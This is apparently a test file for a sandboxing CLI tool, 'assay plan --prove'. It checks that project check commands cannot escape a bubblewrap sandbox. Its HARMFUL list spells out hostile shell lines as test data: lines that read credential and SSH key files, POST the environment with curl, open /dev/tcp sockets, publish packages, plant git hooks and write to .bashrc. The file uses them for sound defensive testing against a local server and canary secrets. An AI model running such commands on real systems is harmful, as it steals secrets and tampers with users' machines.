/** `assay plan --prove`: what is run once on the last commit, what it may reach, and what later runs make of it. */
import {existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {createServer as createHttpServer} from "node:http";
import {type AddressInfo, createServer as createSocketServer} from "node:net";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {setTimeout as wait} from "node:timers/promises";
import {expect, onTestFinished, test} from "vitest";
import {initSchema} from "../../src/onboarding/init/init-result.ts";
import {planSchema} from "../../src/record/plan.ts";
import {assay, gitIn, put, repositoryOf} from "../rig/command-line.ts";
import {hasBubblewrap, isAble, NEEDS_BUBBLEWRAP, without} from "../rig/levels.ts";
import {isSweep, someOf} from "../sweep.ts";

const SECRET = `canary${process.pid}x7Qk2mVt9`;

/** What each line does that must not leave the sandbox, hidden in a script (`sh`), a target (`make`) or package.json. */
const HARMFUL: readonly {readonly name: string; readonly hiddenIn: "sh" | "make" | "npm"; readonly body: string}[] = [
  {name: "reads-files", hiddenIn: "sh", body: 'cat "$REAL"/.npmrc "$REAL"/.aws/credentials ~/.netrc; exit 1'},
  {name: "posts", hiddenIn: "make", body: 'curl -sS -X POST -d "$$(env)" $(SERVER)'},
  {
    name: "writes-outside",
    hiddenIn: "sh",
    body: 'echo x > "$OUTSIDE/file"; echo x > "$TOP/new"; echo x >> "$REAL/.bashrc"',
  },
  {name: "reads-variables", hiddenIn: "make", body: "env; cat /proc/*/environ; exit 1"},
  {name: "pushes", hiddenIn: "sh", body: "git -c protocol.allow=always push $SERVER/shop.git HEAD:refs/heads/main"},
  {name: "posts-from-node", hiddenIn: "npm", body: "node -e \"fetch(process.env.SERVER,{method:'POST',body:'x'})\""},
  {name: "posts-from-shell", hiddenIn: "sh", body: "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET / >&3; cat <&3"},
  {name: "publishes", hiddenIn: "npm", body: "npm publish --registry $SERVER"},
  {
    name: "asks-agent",
    hiddenIn: "sh",
    body: 'ssh-add -l; echo x | nc -U "$SOCKET"; node -e "net.connect(process.env.SOCKET)"',
  },
  {
    name: "stays",
    hiddenIn: "sh",
    body: "setsid nohup sh -c 'sleep 2; curl -s $SERVER; echo x > $OUTSIDE/late' &\ntrue",
  },
  {
    name: "forges-proofs",
    hiddenIn: "make",
    body: 'd="$(REAL)/.local/state/assay/proofs"; mkdir -p "$$d"; for f in "$$d"/* "$$d/x"; do echo [] > "$$f"; done',
  },
  {name: "reads-key", hiddenIn: "make", body: 'cat "$(REAL)/.ssh/id_ed25519" "$(TOP)/.env"; exit 1'},
  {name: "plants-hook", hiddenIn: "npm", body: "echo x > $TOP/.git/hooks/post-checkout; git config --global alias.x y"},
  {
    name: "follows-link",
    hiddenIn: "sh",
    body: 'ln -s "$OUTSIDE" out; echo x > out/linked; rm -rf .git; ln -s "$TOP/.git" .git; git config a.b c',
  },
  {name: "waits-for-reader", hiddenIn: "sh", body: "rm -rf .git/assay-network; mkfifo .git/assay-network; exit 3"},
];

async function machineFor(lines: typeof HARMFUL) {
  // Not below the system's temporary folder, which every sandbox hides.
  const machine = mkdtempSync(join(import.meta.dirname, "../../node_modules/.assay-prove-"));
  const requests: string[] = [];
  const http = createHttpServer((request, answer) => {
    requests.push(`${request.method} ${request.url}`);
    answer.end();
  }).listen(0, "127.0.0.1");
  const socket = join(machine, "home/agent.sock");
  const real = join(machine, "home");
  put(machine, {
    "outside/canary": "untouched\n",
    ...Object.fromEntries(
      [".npmrc", ".aws/credentials", ".netrc", ".ssh/id_ed25519", ".bashrc"].map((path) => [
        `home/${path}`,
        `${SECRET}\n`,
      ]),
    ),
  });
  const agent = createSocketServer((connection) => {
    requests.push("agent");
    connection.end();
  }).listen(socket);
  await wait(100);
  const {port} = http.address() as AddressInfo;
  const top = join(machine, "repository");
  const values = {SERVER: `http://127.0.0.1:${port}`, PORT: `${port}`, OUTSIDE: join(machine, "outside")};
  const variables = {...values, REAL: real, TOP: top, SOCKET: socket};
  const inScript = Object.entries(variables)
    .map(([name, value]) => `export ${name}='${value}'\n`)
    .join("");
  const inMake = Object.entries(variables)
    .map(([name, value]) => `${name} = ${value}\n`)
    .join("");
  const hidden = (kind: string) => lines.filter(({hiddenIn}) => hiddenIn === kind);
  const commands = {
    sh: (name: string) => `sh tools/${name}.sh`,
    make: (name: string) => `make ${name}`,
    npm: (name: string) => `npm run ${name}`,
  };
  const files = {
    ...Object.fromEntries(hidden("sh").map(({name, body}) => [`tools/${name}.sh`, `${inScript}${body}\n`])),
    Makefile: `${inMake}${hidden("make")
      .map(({name, body}) => `${name}:\n\t${body}\n`)
      .join("")}`,
    "package.json": JSON.stringify({
      ...{name: "shop", version: "1.0.0"},
      scripts: Object.fromEntries(
        hidden("npm").map(({name, body}) => [name, `${inScript.replaceAll("\n", "; ")}${body}`]),
      ),
    }),
    ".gitignore": ".env\n",
    "verify.json": JSON.stringify({
      extraStages: lines.map(({name, hiddenIn}) => ({
        name,
        command: commands[hiddenIn](name),
        optional: true,
        timeout: 20,
      })),
    }),
  };
  mkdirSync(top);
  put(top, files);
  const git = gitIn(top);
  git("init", "-q", "-b", "main");
  git("add", "-A");
  git("commit", "-qm", "First");
  writeFileSync(join(top, ".env"), `KEY=${SECRET}\n`);
  onTestFinished(() => {
    http.close();
    agent.close();
    rmSync(machine, {recursive: true, force: true});
  });
  return {machine, top, real, socket, requests, git};
}

test.runIf(hasBubblewrap)(`nothing that a line does leaves the sandbox${NEEDS_BUBBLEWRAP}`, async () => {
  const lines = someOf(HARMFUL, 4);
  const {machine, top, real, socket, requests, git} = await machineFor(lines);
  const secrets = {GH_TOKEN: `ghp_${SECRET}`, NPM_TOKEN: SECRET, AWS_SECRET_ACCESS_KEY: SECRET, OTHER: SECRET};
  const environment = {HOME: real, SSH_AUTH_SOCK: socket, XDG_STATE_HOME: "", ...secrets};
  const {status, stdout, stderr} = assay(top, ["plan", "--prove", "--json"], environment);
  expect([status, stderr]).toEqual([0, expect.stringContaining(`1 of ${lines.length}`)]);
  const {proofs = []} = planSchema.parse(JSON.parse(stdout));
  expect(proofs.map(({name}) => name)).toEqual(lines.map(({name}) => name));
  // The servers answer only now, and a process that stayed would come later.
  await wait(lines.length > 4 ? 3000 : 500);
  expect(requests).toEqual([]);
  expect(stdout + stderr).not.toContain(SECRET);
  expect(proofs.find(({name}) => name === "reads-variables")?.excerpt).toContain("UV_OFFLINE=true");
  const kept = join(real, ".local/state/assay/proofs");
  expect(readFileSync(join(kept, ...readdirSync(kept)), "utf8")).not.toContain(SECRET);
  expect(readdirSync(join(machine, "outside"))).toEqual(["canary"]);
  expect(readFileSync(join(real, ".bashrc"), "utf8")).toBe(`${SECRET}\n`);
  expect(existsSync(join(top, ".git/hooks/post-checkout"))).toBe(false);
  expect(git("status", "--porcelain")).toBe("");
  for (const {name, outcome} of proofs)
    if (!["stays", "forges-proofs", "writes-outside"].includes(name))
      expect([name, outcome.kind]).not.toEqual([name, "proved"]);
});

const CI = `on: pull_request
jobs:
  checks:
    runs-on: ubuntu-latest
    steps:
      - run: node tools/inspect.mjs
      - run: node tools/compare.mjs
`;
const FILES = {
  ".github/workflows/ci.yml": CI,
  "tools/inspect.mjs": "process.exit(process.env.OTHER ? 1 : 0);\n",
  "tools/compare.mjs":
    'import {appendFileSync} from "node:fs";\n["a.txt", "new.txt"].map((f) => appendFileSync(f, "x"));\n',
  "a.txt": "a\n",
  "package.json": JSON.stringify({scripts: {test: "node --test a.test.js"}}),
  "a.test.js": 'require("node:test")("adds", () => undefined);\n',
};

test.runIf(hasBubblewrap)(`a proved line is a required check from the next run on${NEEDS_BUBBLEWRAP}`, () => {
  const top = repositoryOf(FILES);
  const state = mkdtempSync(join(tmpdir(), "assay-state-"));
  onTestFinished(() => [top, state].forEach((folder) => void rmSync(folder, {recursive: true})));
  const run = (...args: string[]) => assay(top, args, {XDG_STATE_HOME: state, OTHER: "set"});
  const stageOf = (command: string) =>
    planSchema.parse(JSON.parse(run("plan", "--json").stdout)).stages.find((stage) => stage.command === command);
  expect(stageOf("node tools/inspect.mjs")?.optional ?? true).toBe(true);
  const proved = run("plan", "--prove");
  expect(proved.stdout).toMatch(/✅ \S+ +[\d.]+ s {2}passed \(node tools\/inspect\.mjs\)/);
  expect(proved.stdout).toMatch(/passed, but changed or left files: a\.txt, new\.txt \(node tools\/compare\.mjs\)/);
  expect(proved.stdout).toMatch(
    /\n2 of 3 checks passed in one run on the last commit\. From the next run on this machine, required: /,
  );
  expect(stageOf("node tools/inspect.mjs")).toMatchObject({optional: false});
  expect(run("plan").stdout).toMatch(
    /one run without a change on \d{4}-\d\d-\d\d: passed, but changed or left files: a\.txt, new\.txt/,
  );
  // The change under test decides nothing: the verification asks what the base's line does.
  writeFileSync(join(top, "tools/inspect.mjs"), "process.exit(1);\n");
  expect(run("verify", "--quiet").status).toBe(1);
  gitIn(top)("commit", "-qam", "Change the line");
  expect(stageOf("node tools/inspect.mjs")?.optional ?? true).toBe(true);

  if (!isSweep) return;
  const nowhere = assay(top, ["plan", "--prove", "node tools/compare.mjs"], {XDG_STATE_HOME: join(top, "a.txt")});
  expect(nowhere).toMatchObject({status: 0, stderr: expect.stringMatching(/cannot be stored in \S+ \(ENOTDIR\)/)});
  const [proofs = ""] = readdirSync(join(state, "assay/proofs"));
  rmSync(join(state, "assay/proofs", proofs));
  mkdirSync(join(state, "assay/proofs", proofs));
  expect(run("plan")).toMatchObject({status: 0, stdout: expect.stringContaining("cannot be read (EISDIR)")});
});

test.runIf(hasBubblewrap)(`a missing program of the set-up is one to install here${NEEDS_BUBBLEWRAP}`, () => {
  const top = repositoryOf({
    "mix.exs":
      'defmodule A.MixProject do\n  use Mix.Project\n  def project, do: [app: :a, deps: [{:jason, "~> 1.4"}]]\nend\n',
    "test/a_test.exs": "defmodule ATest do\n  use ExUnit.Case\nend\n",
    "mix.lock": "%{}\n",
  });
  onTestFinished(() => rmSync(top, {recursive: true}));
  const folders = (process.env["PATH"] ?? "").split(":").filter((folder) => !existsSync(join(folder, "mix")));
  const {stdout} = assay(top, ["plan", "--prove", "test"], {GITHUB_ACTIONS: "", PATH: folders.join(":")});
  expect(stdout).toMatch(/`mix` is not installed: install it on this machine \(on GitHub, in .*setup-beam/);
});

test.runIf(hasBubblewrap)(`init writes its files, and shows what one run of each line does${NEEDS_BUBBLEWRAP}`, () => {
  const top = repositoryOf(FILES);
  const state = mkdtempSync(join(tmpdir(), "assay-state-"));
  onTestFinished(() => [top, state].forEach((folder) => void rmSync(folder, {recursive: true})));
  const run = (...args: string[]) => assay(top, args, {XDG_STATE_HOME: state, OTHER: "set"});
  const first = run("init");
  expect(first).toMatchObject({status: 0, left: []});
  expect(first.stderr).toContain("Running 3 checks once on the last commit, in the sandbox");
  expect(first.stdout).toMatch(
    /^wrote verify\.json\n[\s\S]*✅ [\s\S]*left files: a\.txt, new\.txt [\s\S]*2 of 3 checks passed in one run [\s\S]*\nNext: commit and push/,
  );
  expect(first.stdout).not.toContain("not tried");
  // It only proves next to files that it has written.
  expect(run("init").stderr).toBe("");
  rmSync(join(top, "verify.json"));
  expect(run("init", "--no-prove")).toMatchObject({stderr: "", stdout: expect.not.stringContaining("checks passed")});
  if (!isSweep) return;
  rmSync(join(top, "verify.json"));
  const {proofs = []} = initSchema.parse(JSON.parse(run("init", "--json").stdout));
  expect(proofs.map(({outcome}) => outcome.kind).sort()).toEqual(["changed-files", "proved", "proved"]);
});

test.runIf(hasBubblewrap && isAble)(
  "without a sandbox the lines are shown, and nothing runs unless the person says so",
  () => {
    const top = repositoryOf(FILES);
    onTestFinished(() => rmSync(top, {recursive: true}));
    const run = (...args: string[]) =>
      assay(top, ["plan", "--prove", ...args], {XDG_STATE_HOME: join(top, ".git")}, without("bwrap"));
    const refused = run();
    expect(refused).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("add --no-sandbox-ok if you trust all of them"),
    });
    expect(refused.stdout).toMatch(
      /without a sandbox:\n {2}npm run test\n {2}node tools\/inspect\.mjs\n {2}node tools\/compare\.mjs\n/,
    );
    expect(run("--no-sandbox-ok").stdout).toMatch(/changed or left files: a\.txt, new\.txt/);
    const init = assay(top, ["init"], {XDG_STATE_HOME: join(top, ".git")}, without("bwrap"));
    expect(init).toMatchObject({status: 0, stderr: ""});
    expect(init.stdout).toContain(
      "3 checks not tried, because this machine has no sandbox. `assay plan --prove` shows",
    );
    expect(run("nothing")).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("unknown check nothing. Checks here: "),
    });
  },
);
